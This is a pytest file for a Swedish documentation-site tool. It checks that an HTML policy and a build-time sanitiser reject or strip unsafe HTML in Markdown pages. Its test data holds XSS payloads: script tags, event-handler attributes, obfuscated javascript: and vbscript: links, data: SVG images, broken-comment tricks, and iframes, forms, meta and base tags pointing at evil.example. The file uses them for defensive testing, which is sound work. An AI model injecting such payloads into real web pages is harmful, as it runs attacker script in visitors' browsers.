"""The HTML policy for Markdown bodies: `arena check` refuses what could run or leak, the build sanitises again.

One test per forbidden class, each with the exact `path:line: field: message`;
allowed HTML and code pass; content/ pages are checked; the demo is clean; the
build-time sanitiser strips payloads that never went through check, and on the
demo it changes how the HTML is written, never what it says.
"""

from __future__ import annotations

import importlib.util
import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest

from conftest import BUILD_EPOCH, REPO, ArenaDir, copy_project, site_digest
from kunskapsarena import load_arena
from kunskapsarena.check.embeds import click_to_load
from kunskapsarena.check.settings import settings_from_file
from kunskapsarena.generate.sanitise import sanitise_html

METHOD = "methods/kundresa.md"   # body starts at line 22; line 25 is "Se tjänsten med invånarens ögon."
LINE = "Se tjänsten med invånarens ögon."
TAGS = ("a, abbr, br, caption, details, div, em, figcaption, figure, img, kbd, li, mark, ol, p, span, strong, "
        "sub, summary, sup, table, tbody, td, tfoot, th, thead, tr, ul")
LINK_HINT = ("adressen kör kod i besökarens webbläsare; länka med https://, http://, mailto:, tel:, en relativ "
             "adress eller #avsnitt")
HANDLER_HINT = "händelseattribut kör JavaScript i besökarens webbläsare; ta bort det"
ATTR_LIST_HINT = "i {…} efter en rubrik, ett stycke, en länk eller en bild går bara #id och .klass att ange"
EMBED_HINT = ("inbäddat innehåll hämtas från en annan webbplats; länka till sidan i stället, eller be den som "
              "förvaltar webbplatsen att tillåta värden i extra.embeds.hosts i mkdocs.yml")


def body(arena: ArenaDir, text: str) -> list[str]:
    arena.replace(METHOD, LINE, text)
    return arena.problems()


def allow_embeds(arena: ArenaDir, *hosts: str) -> None:
    arena.write("mkdocs.yml", "site_name: Test\nextra:\n  organisation: {name: X, email: a@b.se}\n"
                              f"  embeds:\n    hosts: [{', '.join(hosts)}]\n")


def test_script_element_is_an_error(arena: ArenaDir):
    assert body(arena, "Se tjänsten.\n\n<script>alert(1)</script>") == [
        "methods/kundresa.md:27: body: HTML-taggen <script> är inte tillåten "
        "(skript körs i varje besökares webbläsare; ta bort taggen)"]


def test_style_element_and_style_attribute_are_errors(arena: ArenaDir):
    assert body(arena, "<style>body { display: none }</style>\n\nSe <span style=\"font-size: 3em\">det</span>.") == [
        "methods/kundresa.md:25: body: HTML-taggen <style> är inte tillåten "
        "(stilar ändrar hela sidan och följer inte webbplatsens tema; ta bort taggen)",
        "methods/kundresa.md:27: body: attributet style är inte tillåtet (utseendet kommer från webbplatsens "
        "tema; använd **fetstil**, en rubrik eller en ruta (!!! note) i stället)"]


def test_event_handler_attributes_are_errors(arena: ArenaDir):
    assert body(arena, '<img src="a.png" alt="Karta" onerror="alert(1)">\n'
                       "<details ONTOGGLE=alert(1) open><summary>Mer</summary>Text</details>") == [
        f"methods/kundresa.md:25: body: attributet onerror är inte tillåtet ({HANDLER_HINT})",
        f"methods/kundresa.md:26: body: attributet ontoggle är inte tillåtet ({HANDLER_HINT})"]


def test_javascript_data_and_vbscript_addresses_in_html_are_errors_even_obfuscated(arena: ArenaDir):
    assert body(arena, '<a href="javascript:alert(1)">A</a>\n'
                       '<a href="java&#x73;cript:alert(1)">B</a>\n'
                       '<a href=" JaVa&#09;ScRipt&colon;alert(1)">C</a>\n'
                       '<a href="vbscript:msgbox(1)">D</a>\n'
                       '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="E">') == [
        f"methods/kundresa.md:25: body: länkadressen 'javascript:alert(1)' är inte tillåten ({LINK_HINT})",
        f"methods/kundresa.md:26: body: länkadressen 'javascript:alert(1)' är inte tillåten ({LINK_HINT})",
        f"methods/kundresa.md:27: body: länkadressen 'JaVa ScRipt:alert(1)' är inte tillåten ({LINK_HINT})",
        f"methods/kundresa.md:28: body: länkadressen 'vbscript:msgbox(1)' är inte tillåten ({LINK_HINT})",
        "methods/kundresa.md:29: body: bildadressen 'data:image/svg+xml;base64,PHN2Zz4=' är inte tillåten "
        "(använd en bild i samma mapp (bild.png) eller en adress som börjar med https://)"]


def test_dangerous_addresses_in_markdown_links_images_and_references_are_errors(arena: ArenaDir):
    assert body(arena, "Se [tjänsten](javascript:alert(1)) och [den](JAVA&#115;CRIPT:alert(1)).\n"
                       "![Karta](data:image/png;base64,AAAA)\n"
                       "[Tre]( <vbscript:msgbox(1)> ) och [fyra][ref].\n\n"
                       "[ref]: javascript:alert(2)") == [
        f"methods/kundresa.md:25: body: länkadressen 'javascript:alert(1)' är inte tillåten ({LINK_HINT})",
        f"methods/kundresa.md:25: body: länkadressen 'JAVA&#115;CRIPT:alert(1)' är inte tillåten ({LINK_HINT})",
        "methods/kundresa.md:26: body: bildadressen 'data:image/png;base64,AAAA' är inte tillåten "
        "(använd en bild i samma mapp (bild.png) eller en adress som börjar med https://)",
        f"methods/kundresa.md:27: body: länkadressen 'vbscript:msgbox(1)' är inte tillåten ({LINK_HINT})",
        f"methods/kundresa.md:29: body: länkadressen 'javascript:alert(2)' är inte tillåten ({LINK_HINT})"]


@pytest.mark.parametrize(("tag", "why"), [
    ("iframe", EMBED_HINT),
    ("object", "inbäddat innehåll hämtas från en annan webbplats; ta bort taggen"),
    ("embed", "inbäddat innehåll hämtas från en annan webbplats; ta bort taggen"),
    ("form", "formulär kan skicka besökarens uppgifter vidare; ta bort taggen"),
    ("input", "formulär kan skicka besökarens uppgifter vidare; ta bort taggen"),
    ("button", "knappar hör till formulär och skript; ta bort taggen"),
    ("link", "taggen ändrar hela sidan (stilar, adresser, omdirigering); ta bort taggen"),
    ("meta", "taggen ändrar hela sidan (stilar, adresser, omdirigering); ta bort taggen"),
    ("base", "taggen ändrar hela sidan (stilar, adresser, omdirigering); ta bort taggen"),
    ("svg", "svg och math i texten kan innehålla skript; lägg bilden som fil: ![Beskrivning](bild.svg); "
            "ta bort taggen"),
    ("math", "svg och math i texten kan innehålla skript; lägg bilden som fil: ![Beskrivning](bild.svg); "
             "ta bort taggen"),
    ("marquee", f"tillåtna taggar: {TAGS}; vill du visa tecknet < skriver du &lt;"),
])
def test_tags_outside_the_allow_list_are_errors(arena: ArenaDir, tag: str, why: str):
    assert body(arena, f"Se tjänsten.\n\n<{tag} src=\"https://x.example/\"></{tag}>") == [
        f"methods/kundresa.md:27: body: HTML-taggen <{tag}> är inte tillåten ({why})"]


def test_other_attributes_are_errors_with_the_tags_own_list(arena: ArenaDir):
    assert body(arena, '<td data-x="1" colspan="2">a</td> <abbr title="Kommun" id="__config">K</abbr>') == [
        "methods/kundresa.md:25: body: attributet data-x är inte tillåtet på <td> "
        "(tillåtna attribut på <td>: class, colspan, id, lang, rowspan, title)",
        "methods/kundresa.md:25: body: id:t '__config' är inte tillåtet "
        "(id som börjar med __ används av webbplatsens tema; välj ett annat)"]


def test_attr_list_attributes_other_than_id_and_class_are_errors(arena: ArenaDir):
    assert body(arena, "### Steg {: onclick=\"alert(1)\" }\n\nSe [tjänsten](https://x.example/){ style=\"color:red\" data-x=1 }.\n"
                       "![Karta](karta.png){: .stor #karta }\n"
                       "Stycke.\n{: class=\"ruta\" id=\"a\" tabindex=0 }") == [
        f"methods/kundresa.md:25: body: attributet onclick i {{…}} är inte tillåtet ({ATTR_LIST_HINT})",
        "methods/kundresa.md:27: body: färg används för att markera text (färgen når inte skärmläsare och kan "
        "ge för låg kontrast i mörkt läge; använd **fetstil**, en rubrik eller en ruta (!!! note) i stället)",
        f"methods/kundresa.md:27: body: attributet style i {{…}} är inte tillåtet ({ATTR_LIST_HINT})",
        f"methods/kundresa.md:27: body: attributet data-x i {{…}} är inte tillåtet ({ATTR_LIST_HINT})",
        f"methods/kundresa.md:30: body: attributet tabindex i {{…}} är inte tillåtet ({ATTR_LIST_HINT})"]


def test_comment_that_browsers_end_early_is_an_error(arena: ArenaDir):
    assert body(arena, "<!--> <img src=x alt=\"\" onerror=alert(1)> -->") == [
        "methods/kundresa.md:25: body: HTML-kommentaren är felaktigt skriven (skriv kommentarer som <!-- text -->)"]


def test_code_span_inside_a_raw_html_block_is_no_code(arena: ArenaDir):
    """Python-Markdown leaves a block that starts with a block-level tag alone: backticks there are text."""
    assert body(arena, "<p>`<script>alert(1)</script>`</p>") == [
        "methods/kundresa.md:25: body: HTML-taggen <script> är inte tillåten "
        "(skript körs i varje besökares webbläsare; ta bort taggen)"]


def test_allowed_html_passes(arena: ArenaDir):
    assert body(arena, (
        "Se tjänsten, <abbr title=\"Europeiska unionen\">EU</abbr>, <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>"
        "<br>och <a href=\"https://x.example/\" class=\"md-button\">Tjänsten</a>, <a href=\"mailto:a@b.example\">"
        "Anna</a>, <a href=\"tel:+46701740699\">Ring</a>, <a href=\"../personas/\">Personas</a>, "
        "<a href=\"#syfte\">Syfte</a>, <https://x.example/> och <info@kunskapsarena.example>.\n\n"
        "<details open id=\"mer\"><summary>Mer</summary>Text</details>\n\n"
        "<figure><img src=\"resa.png\" alt=\"Resan\" width=\"300\"><figcaption>Resan</figcaption></figure>\n\n"
        "<table><thead><tr><th scope=\"col\" colspan=\"2\">A</th></tr></thead>"
        "<tbody><tr><td rowspan=\"2\">1</td></tr></tbody></table>\n\n"
        "<div class=\"grid cards\" markdown>\n\n- Kort\n\n</div>\n\n"
        "![Karta](https://x.example/karta.png){ #karta .stor } [Personas](../personas/){: .md-button }\n\n"
        "Texten {antal} och {{ organisation }} är bara text. a < b och <!-- arena:idesluss -->")) == []


def test_code_is_not_checked(arena: ArenaDir):
    assert body(arena, (
        "Skriv aldrig `<script>` eller `[x](javascript:alert(1))` eller ``{: onclick=x }``.\n\n"
        "```html\n<script>alert(1)</script>\n<a href=\"javascript:alert(1)\" onclick=\"x\">x</a>\n```\n\n"
        "~~~\n<iframe src=\"https://evil.example/\"></iframe>\n~~~")) == []


def test_content_pages_are_checked_too(arena: ArenaDir):
    arena.write("content/om.md", "---\ntitle: Om\n---\n\n# Om arenan\n\nSe <a href=\"javascript:x()\">här"
                                 "</a> och <b onmouseover=\"x()\">fet</b>.\n")
    assert arena.problems() == [
        "content/om.md:7: body: länktexten 'här' säger inte vart länken leder (skriv målet i länktexten, t.ex. "
        "[Läs om tjänstedesign](...); skärmläsare listar länkar utan sammanhang) [varning]",
        f"content/om.md:7: body: länkadressen 'javascript:x()' är inte tillåten ({LINK_HINT})",
        "content/om.md:7: body: HTML-taggen <b> är inte tillåten "
        f"(tillåtna taggar: {TAGS}; vill du visa tecknet < skriver du &lt;)"]


def test_iframe_of_an_allowed_host_needs_a_title_and_other_hosts_stay_errors(arena: ArenaDir):
    allow_embeds(arena, "www.youtube-nocookie.com")
    assert body(arena, (
        '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc" '
        'title="Film: Så fungerar kundresan" frameborder="0" allowfullscreen></iframe>\n\n'
        '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>\n\n'
        '<iframe src="http://www.youtube-nocookie.com/embed/abc" title="A"></iframe>\n\n'
        '<iframe src="https://evil.example/" title="B" onload="x()"></iframe>')) == [
        "methods/kundresa.md:27: body: inbäddningen (<iframe>) saknar title (beskriv innehållet, t.ex. "
        'title="Film: Så fungerar idéslussen"; titeln visas innan videon laddas och läses upp av skärmläsare)',
        "methods/kundresa.md:29: body: inbäddning från 'http://www.youtube-nocookie.com/embed/abc' är inte "
        "tillåten (adressen ska börja med https:// och värden stå i extra.embeds.hosts i mkdocs.yml "
        "(nu: www.youtube-nocookie.com))",
        f"methods/kundresa.md:31: body: attributet onload är inte tillåtet ({HANDLER_HINT})",
        "methods/kundresa.md:31: body: inbäddning från 'https://evil.example/' är inte tillåten (adressen ska "
        "börja med https:// och värden stå i extra.embeds.hosts i mkdocs.yml (nu: www.youtube-nocookie.com))"]


def test_a_wrong_embeds_setting_allows_no_host(arena: ArenaDir):
    """The setting itself is checked with every other setting (tests/test_settings.py); until it is
    right, no host is allowed, so an iframe stays an error instead of slipping through."""
    arena.write("mkdocs.yml", "site_name: Test\nextra:\n  organisation: {name: X, email: a@b.se}\n"
                              "  embeds:\n    hosts: [https://www.youtube.com/embed]\n")
    assert [str(p) for p in settings_from_file(arena.path("mkdocs.yml"))[1]] == [
        "mkdocs.yml:5: extra.embeds.hosts[0]: 'https://www.youtube.com/embed' är inget värdnamn (skriv bara "
        "värdnamnet, utan https:// och sökväg, t.ex. www.youtube-nocookie.com)"]
    problems = body(arena, '<iframe src="https://www.youtube.com/embed/x" title="Film"></iframe>')
    assert problems and all("<iframe> är inte tillåten" in problem for problem in problems), problems


def test_demo_arena_is_clean():
    assert [str(p) for p in load_arena(REPO).problems] == []


# --- the build-time sanitiser --------------------------------------------------------------------------

PAYLOADS = [
    '<script>window.pwned = 1</script>',
    '<img src="x.png" alt="" onerror="window.pwned = 1">',
    '<a href="javascript:window.pwned=1">a</a>',
    '<a href="java&#x73;cript:window.pwned=1">b</a>',
    '<a href=" JaVaScRiPt:window.pwned=1">c</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">',
    '<a href="vbscript:msgbox(1)">d</a>',
    '<svg><script>window.pwned = 1</script></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<form action="https://evil.example/"><input name="p" formaction="javascript:alert(1)"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">e</p>',
    '<!--> <img src=x onerror=alert(1)> -->',
    '<figure class="ka-embed" data-ka-embed="https://evil.example/"><button class="ka-embed__load">x</button></figure>',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_strips_what_check_would_have_refused(payload: str):
    clean = sanitise_html(f"<p>Före</p>{payload}<p>Efter</p>")
    tags = _tags(clean)
    assert not {"script", "style", "iframe", "object", "embed", "meta", "base", "link", "svg", "math"} & {
        tag for tag, _ in tags}
    for _tag, attrs in tags:
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("style", "srcdoc", "formaction", "action")
            assert not name.startswith("data-ka-embed")
            assert not (value or "").replace(" ", "").lower().startswith(("javascript:", "data:", "vbscript:"))
    assert clean.startswith("<p>Före</p>") and clean.endswith("<p>Efter</p>")


def test_sanitiser_keeps_what_our_pages_need():
    html = ('<h2 id="syfte">Syfte<a class="headerlink" href="#syfte" title="Länk">¶</a></h2>'
            '<div class="ka-aside"><ul><li>x</li></ul></div><div class="admonition note"><p class="admonition-title">Obs</p></div>'
            '<form class="ka-filters" hidden aria-label="Filtrera" data-ka-filters><fieldset data-ka-facet>'
            '<legend>Fas</legend><input type="checkbox" id="f" name="phase" value="testa"><label for="f">Testa'
            '</label></fieldset><button type="button" data-ka-clear>Rensa</button></form>'
            '<ul data-ka-list><li class="ka-card" data-ka-item data-ka-facets="{&quot;phase&quot;:[]}">'
            '<a href="../a/" data-ka-keep-query>A</a></li></ul>'
            '<table><tbody><tr><th scope="col">A</th></tr></tbody></table>'
            '<pre><code class="language-python"><span class="k">def</span></code></pre>'
            '<!-- ka:body:kundresa -->')
    assert _tags(sanitise_html(html)) == _tags(html)
    assert "<!-- ka:body:kundresa -->" in sanitise_html(html)
    # Markdown tables align columns with style; text-align is the one property kept (written compactly).
    row = '<table><tbody><tr><td style="{}">1</td></tr></tbody></table>'
    assert sanitise_html(row.format("text-align: left;")) == row.format("text-align:left")
    assert sanitise_html(row.format("text-align: left; background: url(x)")) == row.format("text-align:left")


def test_allowed_iframe_becomes_click_to_load_and_others_disappear():
    hosts = ("www.youtube-nocookie.com",)
    html = ('<p>Se filmen.</p>\n<iframe width="560" src="https://www.youtube-nocookie.com/embed/abc?rel=0&amp;x=1" '
            'title="Film: &quot;Kundresan&quot;" allowfullscreen onload="alert(1)"></iframe>\n'
            '<iframe src="https://evil.example/" title="Ond"></iframe>\n'
            '<iframe src="https://www.youtube-nocookie.com/embed/notitle"></iframe>')
    assert sanitise_html(html, hosts) == (
        '<p>Se filmen.</p>\n<figure class="ka-embed" data-ka-embed="https://www.youtube-nocookie.com/embed/abc?'
        'rel=0&amp;x=1" data-ka-embed-title="Film: &quot;Kundresan&quot;"><figcaption>Film: &quot;Kundresan&quot;'
        '</figcaption><p class="ka-embed__note">Videon visas från www.youtube-nocookie.com. När du klickar '
        'skickas uppgifter till www.youtube-nocookie.com.</p><p class="ka-embed__actions"><button type="button" '
        'class="md-button md-button--primary ka-embed__load" hidden>Visa videon</button> <a class="ka-embed__link" '
        'href="https://www.youtube-nocookie.com/embed/abc?rel=0&amp;x=1">Öppna videon hos '
        'www.youtube-nocookie.com</a></p></figure>\n\n')
    # Without configured hosts no iframe survives at all.
    assert "iframe" not in sanitise_html(html) and "ka-embed" not in sanitise_html(html)
    assert click_to_load("<p>ingen</p>", hosts) == "<p>ingen</p>"


@pytest.mark.build
def test_sanitising_the_demo_changes_how_html_is_written_never_what_it_says(demo_site: Path, tmp_path: Path):
    """The demo built once more with the sanitiser switched off (a test hook), compared page by page.

    Byte differences are only serialisation: `&#34;` → `&quot;`, `&para;` → `¶`,
    a bare boolean attribute → `=""`. Parsed, every page is the same; every
    other file is byte-identical.
    """
    project = copy_project(tmp_path / "project")
    (project / "unsanitised.py").write_text(
        "import kunskapsarena.generate.sanitise as sanitise\n"
        "sanitise.sanitise_html = lambda html, hosts=(): html\n", encoding="utf-8")
    config = (project / "mkdocs.yml").read_text(encoding="utf-8")
    (project / "mkdocs.yml").write_text(config.replace("hooks:\n", "hooks:\n  - unsanitised.py\n", 1), encoding="utf-8")
    site = tmp_path / "site"
    result = subprocess.run([sys.executable, "-m", "kunskapsarena_mkdocs.cli", "--root", str(project), "build",
                             "--site-dir", str(site)], capture_output=True, text=True,
                            env={**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": BUILD_EPOCH})
    assert result.returncode == 0, result.stdout + result.stderr
    plain_digest, sanitised_digest = site_digest(site), site_digest(demo_site)
    files = sorted(plain_digest)
    assert files == sorted(sanitised_digest)
    changed_bytes, changed_meaning = [], []
    for name in files:
        if plain_digest[name] == sanitised_digest[name]:
            continue
        if name.endswith("(order-free)"):   # Pagefind's filters: another order of the same index is equal
            changed_meaning.append(name)
            continue
        plain, sanitised = (site / name).read_bytes(), (demo_site / name).read_bytes()
        changed_bytes.append(name)
        if not name.endswith(".html") or _tokens(plain.decode()) != _tokens(sanitised.decode()):
            changed_meaning.append(name)
    assert changed_meaning == []
    assert any(name.endswith("kundresa/index.html") for name in changed_bytes)   # the comparison does compare


def _tags(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    return [(kind_tag[1], attrs) for kind_tag, attrs in _tokens(html) if kind_tag[0] == "start"]


def _tokens(html: str) -> list[tuple[tuple[str, str], list[tuple[str, str]]]]:
    """The page as a parser sees it: tags with their attributes (entities decoded), text, comments."""
    parser = _Tokens()
    parser.feed(html)
    parser.close()
    return parser.tokens


class _Tokens(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tokens: list = []

    def handle_starttag(self, tag, attrs):
        self.tokens.append((("start", tag), [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.tokens.append((("end", tag), []))

    def handle_data(self, data):
        if self.tokens and self.tokens[-1][0][0] == "text":   # one text token however it was split
            self.tokens[-1] = (("text", self.tokens[-1][0][1] + data), [])
        else:
            self.tokens.append((("text", data), []))

    def handle_comment(self, data):
        self.tokens.append((("comment", data), []))


def test_the_mkdocs_adapter_sanitises_page_content_and_blog_excerpts():
    """The wiring: on_page_content cleans every page, on_page_context the blog plugin's own excerpts."""
    spec = importlib.util.spec_from_file_location("adapter_under_test", REPO / "hooks" / "mkdocs_hooks.py")
    adapter = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(adapter)
    page = SimpleNamespace(file=SimpleNamespace(src_uri="om.md"), meta={"search": {"exclude": True}})
    assert adapter.on_page_content('<p onclick="x()">a</p><script>x()</script>', page, None, None) == "<p>a</p>"
    # A page in the search index: the same clean content inside Pagefind's body (kunskapsarena_mkdocs/pagefind.py).
    page = SimpleNamespace(file=SimpleNamespace(src_uri="om.md"), meta={}, title="Om <arenan>")
    indexed = adapter.on_page_content('<p onclick="x()">a</p><script>x()</script>', page, None, None)
    assert indexed.startswith("<div data-pagefind-body>") and indexed.endswith("<p>a</p></div><!-- /pagefind-body -->")
    assert 'data-pagefind-meta="title">Om &lt;arenan&gt;</span>' in indexed
    excerpt = SimpleNamespace(content='<p><a href="javascript:x()">b</a></p>')
    adapter.on_page_context({"posts": [excerpt]}, page, None, None)
    assert excerpt.content == "<p><a>b</a></p>"


ALLOWED_BODY = """## Rubrik {: #egen .klass }

Se <abbr title="Sveriges Kommuner och Regioner">SKR</abbr>, <kbd>Ctrl</kbd>, H<sub>2</sub>O, m<sup>2</sup>,
<mark>viktigt</mark><br>och [en länk](https://x.example/a?b=1&c=2 "Titel"), [post](mailto:a@b.example),
<a href="tel:+46701740699" lang="sv">Ring</a>, [avsnitt](#egen) och <https://x.example/>.

<details open><summary>Så räknade vi</summary>
<p>Text med <em>betoning</em> och <strong>fetstil</strong>.</p>
<ul><li>Ett</li></ul>
</details>

<figure><img src="bild.png" alt="Bilden" width="300" loading="lazy"><figcaption>Bildtext</figcaption></figure>

<table><caption>Tabell</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead>
<tbody><tr><td rowspan="2" class="tal">1</td><td>2</td></tr></tbody></table>

| Vänster | Mitten |
|:--|:-:|
| a | b |

!!! note "Obs"
    En ruta.

??? info "Mer"
    Utfällbar.

<div class="grid cards" markdown>

- **Kort** med [länk](../a/)

</div>
"""


def test_what_check_allows_passes_the_sanitiser_unchanged():
    """The editors' allow-list is inside the sanitiser's: converted as MkDocs would, nothing is lost."""
    import markdown

    assert load_problems_for(ALLOWED_BODY) == []
    converted = markdown.Markdown(extensions=[
        "attr_list", "md_in_html", "admonition", "tables", "pymdownx.details", "pymdownx.superfences", "toc"],
    ).convert(ALLOWED_BODY)
    assert "<details open" in converted and "<abbr" in converted and 'class="admonition note"' in converted
    sanitised = sanitise_html(converted)
    # Table alignment is written compactly ("text-align:left"), the one rewrite of a value.
    assert "text-align:left" in sanitised
    assert _compact_styles(_tokens(sanitised)) == _compact_styles(_tokens(converted))


def _compact_styles(tokens: list) -> list:
    return [(kind, [(name, value.replace(" ", "").rstrip(";") if name == "style" else value)
                    for name, value in attrs]) for kind, attrs in tokens]


def load_problems_for(text: str) -> list[str]:
    from kunskapsarena.check.html_policy import html_policy_problems

    return [str(p) for p in html_policy_problems("methods/x.md", text, 1)]
